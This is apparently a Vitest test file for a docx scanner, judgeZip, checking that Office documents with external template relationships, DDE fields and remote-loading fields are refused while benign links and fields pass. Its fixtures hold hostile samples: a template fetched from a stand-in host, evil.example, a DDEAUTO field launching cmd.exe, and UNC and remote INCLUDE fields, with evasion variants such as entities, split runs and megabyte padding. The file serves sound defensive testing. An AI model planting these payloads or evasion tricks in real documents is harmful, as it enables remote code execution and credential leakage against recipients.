import { expect, test } from 'vitest'
import { judgeZip } from './judge-zip.ts'
import { docxOf } from '../../../testing/hostile/zip-of.ts'

const relations = (inside: string, lead = ''): Buffer =>
  docxOf([{ name: 'word/_rels/document.xml.rels', content: Buffer.from(`${lead}<Relationships>${inside}</Relationships>`) }])
const base = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const relation = (kind: string, rest: string): string => `<Relationship Id="a" Type="${base}/${kind}" ${rest}/>`
const evil = 'Target="https://evil.example/a.dotm"'
const withFields = (inside: string): Buffer => docxOf([], { document: `<w:document xmlns:w="w">${inside}</w:document>` })
const char = (kind: string): string => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
const words = (...texts: readonly string[]): string =>
  texts.map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join('')
const field = (...texts: readonly string[]): Buffer =>
  withFields(`${char('begin')}${words(...texts)}${char('separate')}${char('end')}`)

test.each([
  ['whose mode has an entity', relations(relation('attachedTemplate', `${evil} TargetMode="&#69;xternal"`))],
  ['whose mode has blanks before its sign', relations(relation('attachedTemplate', `${evil} TargetMode  =  'External'`))],
  ['whose kind has an entity', relations(relation('attached&#x54;emplate', `${evil} TargetMode="External"`))],
  ['that has a prefix', relations(`<a:${relation('frame', `${evil} TargetMode="External"`).slice(1)}`)],
  [
    'in two bytes a letter',
    docxOf([
      {
        name: 'word/_rels/a.rels',
        content: Buffer.from(`\uFEFF<r>${relation('frame', `${evil} TargetMode="External"`)}</r>`, 'utf16le'),
      },
    ]),
  ],
  ['that calls an address elsewhere its own', relations(relation('attachedTemplate', evil))],
  ['behind a megabyte of blanks', relations(relation('frame', `${evil} TargetMode="External"`), ' '.repeat(1_100_000))],
  ['to another document inside', relations(relation('aFChunk', 'Target="a.html"'))],
  ['to an object whose kind has an entity', relations(relation('ole&#79;bject', 'Target="a.bin"'))],
  ['to a picture on another machine', relations(relation('image', 'Target="\\\\evil.example\\a.png" TargetMode="External"'))],
  ['to a picture in a file', relations(relation('image', 'Target="file://evil.example/a.png" TargetMode="External"'))],
  ['in a list that is no XML', relations('<Relationship Id=a>')],
])('a relation %s is refused', async (_what, document) => {
  expect(await judgeZip(document)).toMatch(/^The document (contains|loads|is damaged|is far)/)
})

test.each([
  ['in one piece', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
  ['in pieces', field(' DD', 'E', 'AUTO cmd')],
  ['in entities', field('&#68;&#x44;E cmd')],
  ['in a part between marks', field('<![CDATA[DDE]]> cmd')],
  ['that includes a picture', field(' INCLUDEPICTURE "https://evil.example/a.png" ')],
  ['that includes a text', field('includetext \\\\\\\\evil.example\\\\a.docx')],
  ['that links to a table', field(' LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\a.xlsx" ')],
  ['in an attribute', withFields('<w:fldSimple w:instr=" DDE cmd "/>')],
  [
    'inside another one',
    withFields(`${char('begin')}${words('IF ')}${char('begin')}${words('DDE cmd')}${char('end')}${char('end')}`),
  ],
  ['that never ends', withFields(`${char('begin')}${words('DDE cmd')}`)],
  [
    'in a part by another name',
    docxOf([{ name: 'word/body.bin', content: Buffer.from(`<w:d>${char('begin')}${words('DDE cmd')}${char('end')}</w:d>`) }]),
  ],
])('a field that starts or loads something %s is refused', async (_what, document) => {
  expect(await judgeZip(document)).toMatch(/^The document loads/)
})

test.each([
  ['links', relations(relation('hyperlink', 'Target="mailto:ana@example.com" TargetMode="External"'))],
  ['a picture of the web', relations(relation('image', 'Target="https://shop.example/a.png" TargetMode="External"'))],
  [
    'relations of its own',
    relations(relation('styles', 'Target="styles.xml"') + relation('settings', 'Target="/word/a.xml" TargetMode="Internal"')),
  ],
  ['fields that tell the page and the date', field(' PAGE ', ' \\* MERGEFORMAT ')],
  ['a link to a bookmark', field(' HYPERLINK \\l "dde" ')],
  ['a reference to an included chapter', field(' REF INCLUDED ')],
  ['words about fields', withFields('<w:t>DDE and INCLUDEPICTURE in a field (instrText)</w:t>')],
  ['a page about fields inside', docxOf([{ name: 'word/a.htm', content: Buffer.from('<p>instrText<br>') }])],
  ['a comment in its relations', relations('<!-- TargetMode="External" attachedTemplate -->')],
])('a document with %s is taken', async (_what, document) => {
  expect(await judgeZip(document)).toBeUndefined()
})
